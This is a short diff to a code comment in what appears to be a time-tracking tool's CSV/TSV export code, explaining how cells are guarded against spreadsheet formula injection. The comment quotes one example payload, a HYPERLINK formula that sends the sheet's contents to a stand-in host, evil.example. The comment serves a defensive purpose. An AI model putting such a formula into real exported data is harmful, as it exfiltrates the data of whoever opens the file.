@@ -1,7 +1,7 @@
 // csv and tsv are opened in spreadsheets (`time report -o csv` is meant for invoicing), which read a cell
 // starting with "=", "+", "-" or "@" as a formula: a project named `=HYPERLINK("https://evil.example/?"&A1)`
-// would send the sheet's contents away when clicked. Some spreadsheets drop a leading tab or CR first. As
-// OWASP's advice on CSV injection says, such a cell gets a leading "'", which spreadsheets show as text.
+// would send the sheet's contents away when clicked. Some spreadsheets drop a leading tab or CR first. Such a
+// cell gets a leading "'", which spreadsheets show as text.
 // Whether a cell is text is decided by the value's JSON type, never by how its text looks: a number (-3) is
 // left alone, and so is a field the data model declares a decimal written as text (an exact amount, "-12.50").
 
